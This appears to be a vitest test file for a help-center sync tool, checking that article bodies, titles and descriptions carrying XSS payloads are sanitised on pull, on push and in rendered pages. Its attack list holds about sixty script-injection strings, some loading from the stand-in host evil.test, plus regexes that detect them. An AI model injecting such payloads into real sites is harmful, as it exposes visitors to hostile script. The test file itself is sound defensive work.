import { describe, expect, onTestFinished, test } from 'vitest';
import { openProject } from '../helpers/project.ts';
import { startPreview } from '../preview/previewing.ts';
import { openWorkplace, withIntercom } from './commanding.ts';
import { articleRow, collectionRow, json, startHostile } from './hostile-intercom.ts';

/** Ways in which HTML runs something, loads something or acts on the page around it. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.test/x></SCRIPT>', '<img src=x onerror=alert(1)>', '<img src="x"onerror="alert(1)">',
  '<p onclick="alert(1)">x</p>', '<p ONMOUSEOVER=alert(1)>x</p>', '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="blob:https://x/y">x</a>', '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<iframe src="https://evil.test"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>', '<iframe src="//evil.test/embed/youtube.com"></iframe>',
  '<svg onload=alert(1)></svg>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<style>body{background:url(//evil.test)}</style>', '<p style="background:url(javascript:alert(1))">x</p>', '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0">x</p>', '<link rel=stylesheet href=//evil.test/x.css>', '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="//evil.test/">', '<object data=//evil.test/x></object>', '<embed src=//evil.test/x>', '<form action=//evil.test><input name=a></form>',
  '<button formaction=javascript:alert(1)>x</button>', '<details open ontoggle=alert(1)><summary>x</summary></details>', '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>', '<xmp><script>alert(1)</script></xmp>', '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>',
  '<p/onclick=alert(1)>x</p>', '<p\u000conclick=alert(1)>x</p>', '<a href="https://ok.test" onclick=alert(1) target=_top>x</a>', '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', '<p id=x contenteditable autofocus onfocus=alert(1)>x</p>', '<portal src=//evil.test></portal>',
  '<p>x<script>alert(1)</script>y</p>', '<ul><li><script>alert(1)</script></li></ul>', '<pre><code><script>alert(1)</script></code></pre>',
]; // prettier-ignore

/** A tag or a link that does any of it, escaped ones left out. */
const runs =
  /<(?:script|svg|math|object|embed|style|link|meta|base|form|input|template|noscript|textarea|marquee|portal|xmp)\b|<[^>]*\son[a-z]+\s*=|<[^>]*(?:href|src|action|background|data)\s*=\s*["']?\s*(?:javascript|vbscript|data|blob)\s*:|<[^>]*(?:expression\s*\(|srcdoc|position\s*:|url\s*\()|<iframe(?![^>]*src="https:\/\/(?:www\.youtube\.com|player\.vimeo\.com|www\.loom\.com)\/)/iu;
const runningLink =
  /\]\(\s*<?\s*(?:javascript|vbscript|data|blob):|\]:\s*<?(?:javascript|vbscript|data|blob):/iu;

/** Markdown less what is text in it: code, and signs with a backslash before them. */
const bare = (markdown: string): string =>
  markdown
    .replace(/^(```+|~~~+)[\s\S]*?^\1/gm, '')
    .replace(/`[^`\n]*`/g, '')
    .replace(/\\[!-/:-@[-`{-~]/g, '');

/** A page less what is its own: one script and style, its head and its search; what the policy allows is held elsewhere. */
const withoutOwn = (page: string): string =>
  page
    .replace(/<script type="module">[\s\S]*?<\/script>/, '')
    .replace(/<style>[\s\S]*?<\/style>/, '')
    .replace(/<form\b[^>]*role="search"[\s\S]*?<\/form>/, '')
    .replace(/<(?:meta (?:charset|name)|link rel="(?:icon|alternate|canonical)")[^>]*>/g, '')
    .replace(/ href="(?:\/|vscode:)[^"]*"/g, '')
    .replace(/<svg class="icon"[\s\S]*?<\/svg>/g, '');

describe('from the help center into the folder', () => {
  test('nothing that runs is written into a file, and none of it shows in the preview', async () => {
    const rows = attacks.map((attack, index) =>
      articleRow(100 + index, { title: `Attack ${index}`, body: `<p>Before.</p>${attack}<p>After.</p>` }),
    );
    const named = attacks.map((attack, index) =>
      articleRow(1000 + index, { title: `${index} ${attack}`, description: attack, body: '<p>Text.</p>' }),
    );
    const { env } = await startHostile({
      articles: [...rows, ...named],
      collections: [collectionRow(5, { name: attacks[0], description: attacks[2] })],
    });
    const place = await openWorkplace({ 'sync.config.yaml': withIntercom, 'content/.keep': '' });
    expect((await place.run(['pull'], env)).code).toBe(0);
    const files: Record<string, string> = {};
    for (const name of await place.names('content')) {
      if (!/\.(?:md|yaml)$/.test(name)) continue;
      const text = await place.read(`content/${name}`);
      files[`content/${name}`] = text;
      if (!name.startsWith('attack-')) continue;
      expect([name, text.includes('Before.') && text.includes('After.')]).toEqual([name, true]);
      // A frame of an unknown player stays what it is: it is neither shown nor sent.
      const known = bare(text).replace(/<iframe src="https:[^"]*"><\/iframe>/g, '');
      expect([name, runs.exec(known)?.[0]]).toEqual([name, undefined]);
      expect([name, runningLink.exec(bare(text))?.[0]]).toEqual([name, undefined]);
    }
    expect(Object.keys(files).length).toBeGreaterThan(2 * attacks.length - 1);

    const { preview } = await startPreview(files);
    for (const name of Object.keys(files).filter((one) => one.endsWith('.md'))) {
      const answer = await fetch(
        `${preview.url}/en/articles/${encodeURIComponent(name.slice('content/'.length))}`,
      );
      const page = await answer.text();
      expect([name, answer.status]).toEqual([name, 200]);
      expect([name, runs.exec(withoutOwn(page))?.[0]]).toEqual([name, undefined]);
    }
  });

  test('what runs beside an edited block is not sent back as ours', async () => {
    const body = `<p class="no-margin" onclick="alert(1)">First.</p><p class="no-margin">Second.</p><p><script>alert(2)</script></p>`;
    const row = articleRow(7, { title: 'Mixed', body });
    const { env, asked } = await startHostile({
      articles: [row],
      answer(one, response) {
        if (one.method !== 'PUT') return false;
        json(response, { ...row, ...(JSON.parse(one.body) as object) });
        return true;
      },
    });
    const place = await openWorkplace({ 'sync.config.yaml': withIntercom, 'content/.keep': '' });
    await place.run(['pull'], env);
    const text = await place.read('content/mixed.md');
    expect(text).toContain('Second.');
    await place.write({ 'content/mixed.md': text.replace('Second.', 'Second, edited.') });
    await place.run(['push'], env);
    const [sent] = asked.filter(({ method }) => method === 'PUT');
    const { body: written } = JSON.parse(sent?.body ?? '{}') as { body?: string };
    expect(written).toContain('Second, edited.');
    expect(runs.exec(written ?? '')).toBeNull();
  });
});

describe('from the folder into the help center', () => {
  test('nothing that runs is sent: a file with it is told with its line and held', async () => {
    const project = await openProject();
    onTestFinished(() => project.close());
    await project.write(
      Object.fromEntries(
        attacks.map((attack, index) => [
          `content/a${index}.md`,
          `# Attack ${index}\n\nBefore.\n\n${attack}\n\nAfter.\n`,
        ]),
      ),
    );
    const { plan } = await project.push();
    const told = new Set(plan.problems.map(({ place }) => place.file));
    // What runs in no browser, being text or code, needs no word.
    const silent = attacks.filter((_, index) => !told.has(`content/a${index}.md`));
    expect(
      silent.filter((attack) => !/^<(?:!|pre|audio|details|video|p\/|img src="x"o)/.test(attack)),
    ).toEqual([]);
    expect(plan.problems.filter(({ severity }) => severity === 'error').length).toBeGreaterThan(40);

    // What is no error is sent without what ran.
    const errors = new Set(
      plan.problems.filter(({ severity }) => severity === 'error').map(({ place }) => place.file),
    );
    const pushed = project.simulator.operator.articles().map((one) => one.contents['en']?.title);
    expect(
      pushed.filter((title) => errors.has(`content/a${title?.replace('Attack ', '') ?? ''}.md`)),
    ).toEqual([]);
    const bodies = project.simulator.operator.calls().map(({ body }) => body);
    expect(bodies.length).toBeGreaterThan(0);
    for (const body of bodies) expect(runs.exec(body.replaceAll('\\"', '"'))?.[0]).toBeUndefined();
  });

  test('titles and descriptions are text, in the help center’s pages as well', async () => {
    const project = await openProject();
    onTestFinished(() => project.close());
    const { operator } = project.simulator;
    const shelf = '<script>alert("shelf")</script>';
    await project.write({
      'content/g/collection.yaml': `name: '${shelf}'\ndescription: '<img src=x onerror=alert(1)>'\n`,
      'content/g/a.md': `---\ntitle: '<svg onload=alert(1)>'\ndescription: '"><script>alert(2)</script>'\nstate: published\n---\n\nText.\n`,
    });
    await project.push();
    const [article] = operator.articles();
    // As if somebody had got it into the database.
    operator.editArticle(article?.id ?? 0, { storedBody: attacks.join('\n') });
    const seen = new Set<string>();
    for (const path of ['', ...pathsOf(await (await fetch(project.simulator.site)).text())].slice(0, 12)) {
      const answer = await fetch(new URL(path, `${project.simulator.site}/`));
      const page = await answer.text();
      for (const next of pathsOf(page)) seen.add(next);
      expect([path, runs.exec(withoutOwn(page))?.[0]]).toEqual([path, undefined]);
      expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
    }
    expect([...seen].some((one) => one.includes('/articles/'))).toBe(true);
    for (const path of seen) {
      const page = await (await fetch(new URL(path, `${project.simulator.site}/`))).text();
      expect([path, runs.exec(withoutOwn(page))?.[0]]).toEqual([path, undefined]);
    }
  });
});

/** Pages that a page leads to; the icon is a picture that we draw ourselves. */
const pathsOf = (page: string): readonly string[] => [
  ...new Set([...page.matchAll(/href="(\/[^"#?]*(?<!\/icon\.svg))"/g)].map((one) => one[1] ?? '')),
];
